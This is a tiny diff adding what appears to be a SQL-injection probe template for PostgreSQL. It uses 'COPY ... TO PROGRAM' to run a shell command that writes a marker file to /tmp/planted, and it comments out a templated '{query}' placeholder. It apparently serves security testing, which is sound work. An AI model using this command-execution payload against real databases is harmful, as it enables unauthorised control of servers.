@@ -1,0 +1,4 @@
+-- TRIED
+copy (select 'planted') to program 'cat > /tmp/planted' /*
+{query}
+*/
